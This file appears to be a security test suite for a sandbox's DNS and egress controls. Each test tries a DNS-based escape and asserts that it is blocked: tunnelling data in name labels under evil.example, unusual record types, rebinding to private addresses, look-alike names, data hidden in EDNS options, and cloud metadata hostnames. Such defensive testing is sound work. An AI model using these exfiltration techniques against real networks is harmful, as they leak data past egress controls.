"""Getting out, or data out, by names."""

import json

from egress.conftest import python
from egress.table import attack

REFUSED, NO_SUCH_NAME = 5, 3


@attack("name-not-on-the-list", "asking for a name that is not allowed, over UDP and TCP", "the resolver refuses and asks nobody")
def _(w):
    mark = w.mark()
    answers = python(w.fenced, "say([ask(f'{mark}.evil.example', tcp=tcp) for tcp in (False, True)])", mark=mark)
    assert [answer["code"] for answer in answers] == [REFUSED, REFUSED], answers
    assert not w.net.names.asked_for(mark)
    return w.was_blocked(w.fenced, f"{mark}.evil.example")


@attack("dns-tunnel", "data in the labels of names below a domain of the attacker's", "names that are not on the list never leave the host")
def _(w):
    mark = w.mark()
    code = "say([ask(f'{i}.{\"a\" * 60}.{mark}.evil.example', kind)['code'] for i in range(20) for kind in (1, 16, 28)])"
    codes = python(w.fenced, code, mark=mark)
    assert set(codes) <= {REFUSED}, codes
    assert not w.net.names.asked_for(mark)
    return "60 questions refused, none asked outside"


@attack("dns-tunnel-below-a-wildcard", "data in names below an allowed wildcard, as fast as they go", "addresses only, and 200 at once and 50 a second at most (said in docs/egress.md as what remains)")
def _(w):
    mark = w.mark()
    code = """
import concurrent.futures as f
with f.ThreadPoolExecutor(32) as pool:
    codes = list(pool.map(lambda i: ask(f'{i}.{mark}.pages.example', timeout=3)['code'], range(900)))
say([codes.count(0), codes.count(5)])
"""
    with w.api.create(egress=w.policy) as box:
        box.write("/tmp/probe.py", w.open.read("/tmp/probe.py"))
        answered, refused = python(box, code, mark=mark)
        asked = len({each[0] for each in w.net.names.asked_for(mark)})
        assert answered >= 100, "an allowed wildcard should be answered"
        assert refused > 100 and asked < 800, (answered, refused, asked)
        return f"{asked} of 900 were asked outside, {refused} refused: {w.was_blocked(box, *_last_blocked(box))}"


def _last_blocked(box):
    from egress.conftest import blocked

    entry = next(each for each in blocked(box) if "too many" in each["reason"])
    return entry["host"], "too many"


@attack("other-record-types", "TXT, NULL, MX, SRV, CNAME and ANY questions for allowed names", "under a list only addresses are asked for")
def _(w):
    mark = w.mark()
    codes = python(w.fenced, "say([ask(f'{mark}.pages.example', kind)['code'] for kind in (16, 10, 15, 33, 5, 255, 99, 251, 252)])", mark=mark)
    assert set(codes) == {REFUSED}, codes
    assert not w.net.names.asked_for(mark)
    return "refused, none asked outside"


@attack("keys-for-encrypted-hellos", "HTTPS and SVCB records, which carry the keys for ECH", "answered as not there, and never asked for")
def _(w):
    answers = python(w.fenced, "say([ask('api.test.example', kind) for kind in (64, 65)])")
    assert all(answer["code"] == 0 and not answer["kinds"] for answer in answers), answers
    assert not [each for each in w.net.names.asked if each[1] in ("HTTPS", "SVCB")]
    return "no records"


@attack("ipv6-addresses-of-names", "AAAA questions, whose answers would lead past IPv4 rules", "answered as not there, and never asked for")
def _(w):
    w.net.names.records["six.pages.example"] = ["2001:db8::7", w.net.other]
    answer = python(w.fenced, "say(ask('six.pages.example', 28))")
    assert answer["code"] == 0 and not answer["kinds"], answer
    assert not [each for each in w.net.names.asked_for("six.pages") if each[1] == "AAAA"]
    return "no records"


@attack("rebinding", "an allowed name whose address becomes a private one between the question and the connection", "the address that was told is kept for the connection, and every address is checked right before it is dialled")
def _(w):
    mark = w.mark()
    w.net.names.records["rebind.test.example"] = lambda count: [w.net.web] if count == 0 else [w.net.forbidden["10/8"]]
    w.net.names.times.clear()
    code = """
at = address('rebind.test.example')
found = [attempt(get, 'rebind.test.example', '/' + mark, at=at)]
for _ in range(3):
    found.append(attempt(lambda: get('rebind.test.example', '/' + mark, at=address('rebind.test.example'))))
    found.append(attempt(plain, at, request('/' + mark, 'rebind.test.example')))
    found.append(attempt(lambda: through('rebind.test.example:80')))
    found.append(attempt(plain, private, request('/' + mark, 'rebind.test.example')))
say(found)
"""
    first, *later = python(w.fenced, code, mark=mark, private=w.net.forbidden["10/8"])
    assert all(each["local"] == w.net.web for each in w.arrived(mark)), w.arrived(mark)
    assert any(each["local"] == w.net.web for each in w.arrived(mark)), (first, later)
    return w.was_blocked(w.fenced, "rebind.test.example", "private")


@attack("rebinding-within-one-answer", "an answer with a private address among public ones", "private ones are left out of the answer")
def _(w):
    w.net.names.records["private.test.example"] = [w.net.forbidden["10/8"], w.net.web, "127.0.0.1", "169.254.169.254"]
    answer = python(w.fenced, "say(ask('private.test.example'))")
    assert answer["addresses"] == [w.net.web], answer
    return w.was_blocked(w.fenced, "private.test.example", "private")


@attack("name-of-a-private-address", "an allowed name that stands for private addresses only", "there is no such name; asked for by name, the gateway refuses to dial")
def _(w):
    mark = w.mark()
    w.net.names.records["empty.test.example"] = [w.net.forbidden["172.16/12"]]
    code = """
say([ask('empty.test.example'), through('empty.test.example:80'), attempt(plain, web, request('/' + mark, 'empty.test.example')),
     attempt(get, 'empty.test.example', '/' + mark, at=web)])
"""
    asked, proxied, http, tls = python(w.fenced, code, mark=mark, web=w.net.web)
    assert asked["code"] == NO_SUCH_NAME and proxied["status"] == 403, (asked, proxied)
    assert http.get("status") == 403 and tls.get("status") == 403, (http, tls)
    w.nothing_arrived(mark)
    return f"the proxy: 403 {json.loads(proxied['body'])['error']}"


@attack("alias-of-a-private-address", "an allowed name that is an alias of a name with a private address", "what the alias leads to is looked at")
def _(w):
    w.net.names.records["alias.test.example"] = ["deep.alias.evil.example", w.net.forbidden["192.168/16"]]
    answer = python(w.fenced, "say([ask('alias.test.example'), through('alias.test.example:80')])")
    assert not answer[0]["addresses"] and answer[1]["status"] >= 400, answer
    return f"code {answer[0]['code']}; the proxy: {answer[1]['status']}"


@attack("nul-in-a-name", "allowed names with a NUL and more behind it, in questions", "bytes that no host name has are no host name")
def _(w):
    code = """
names = [[b'api', b'test', b'example\\0', b'evil', b'example'], [b'api\\0', b'test', b'example'], [b'api.test.example', b'evil', b'example'],
         [b'evil', b'example', b'api.test.example'], [b'api.test', b'example']]
say([ask('', raw=question('', labels=each), timeout=1)['code'] for each in names])
"""
    before = len(w.net.names.asked)
    codes = python(w.fenced, code)
    assert all(code in (REFUSED, "silence") for code in codes[:4]), codes
    assert not [each for each in w.net.names.asked[before:] if "\0" in each[0] or "evil" in each[0]]
    return f"codes {codes}"


@attack("unicode-in-a-name", "look-alikes of an allowed name: other alphabets, full-width dots and letters, as bytes and in punycode", "names are compared as the ASCII they are on the wire")
def _(w):
    names = ["xn--pi-7kc.test.example", "api\u3002test\u3002example", "\uff41pi.test.example", "api.t\u0435st.example", "ap\u0131.test.example"]
    code = """
def labels(name):
    return [label.encode() for label in name.split('.')]
say([ask('', raw=question('', labels=labels(name)), timeout=1)['code'] for name in names])
"""
    before = len(w.net.names.asked)
    codes = python(w.fenced, code, names=names)
    assert all(code in (REFUSED, "silence") for code in codes), codes
    assert len(w.net.names.asked) == before, w.net.names.asked[before:]
    return f"codes {codes}"


@attack("data-in-the-case-of-letters", "data in upper and lower case of an allowed name", "the host asks in its own spelling")
def _(w):
    answers = python(w.fenced, "say([ask('ApI.TeSt.eXaMpLe'), ask('API.TEST.EXAMPLE.')])")
    assert all(answer["code"] == 0 and answer["addresses"] for answer in answers), answers
    spelled = {each[0] for each in w.net.names.asked_for("api.test.example")}
    assert spelled <= {"api.test.example", "api.test.example."}, spelled
    return "answered; asked outside in lower case"


@attack("data-beside-the-question", "data in EDNS options, ids and additional records of an allowed question", "the host writes a question of its own")
def _(w):
    mark = w.mark()
    code = """
import struct
option = struct.pack('!HH', 65001, len(mark)) + mark.encode()
extra = b'\\0' + struct.pack('!HHIH', 41, 4096, 0, len(option)) + option
plain = question('api.test.example')
say(ask('', raw=plain[:10] + b'\\0\\1' + plain[12:] + extra))
"""
    python(w.fenced, code, mark=mark)
    assert not [each for each in w.net.names.questions if mark.encode() in each]
    return "the option stayed inside"


@attack("messages-that-are-no-questions", "updates, answers, several questions, zone transfers, loops and too much of everything", "one plain question is read, anything else is not answered, and the next one is")
def _(w):
    mark = w.mark()
    code = """
import os
plain = question(f'{mark}.pages.example')
odd = [
    plain[:2] + b'\\x28\\0' + plain[4:], plain[:2] + b'\\x81\\x80' + plain[4:], plain[:4] + b'\\0\\2' + plain[6:] + plain[12:],
    plain[:6] + b'\\0\\1' + plain[8:] + b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4abcd', plain[:12] + b'\\xc0\\x0c\\0\\1\\0\\1', plain[:12], b'', b'\\0' * 11,
    plain + b'x' * 2000, os.urandom(300), plain[:12] + b'\\x3f' * 64, plain[:-2] + b'\\0\\3', plain[:-2] + b'\\0\\xff',
]
codes = [ask('', raw=each, timeout=0.4)['code'] for each in odd]
say([codes, ask('api.test.example')['code']])
"""
    codes, after = python(w.fenced, code, mark=mark)
    assert after == 0, "the resolver is gone"
    assert set(codes) <= {"silence", 1, 4, REFUSED}, codes
    assert not w.net.names.asked_for(mark)
    return f"codes {codes}"


@attack("names-of-the-hosts-network", "names without a dot, and those of clouds and clusters", "they are on no list; the host's search domains are never added")
def _(w):
    names = ["localhost", "metadata", "metadata.google.internal", "kubernetes.default.svc", "api", "test", "host.docker.internal", "instance-data.ec2.internal"]
    before = len(w.net.names.asked)
    codes = python(w.fenced, "say([ask(name)['code'] for name in names])", names=names)
    assert set(codes) == {REFUSED}, codes
    assert len(w.net.names.asked) == before
    return "refused"
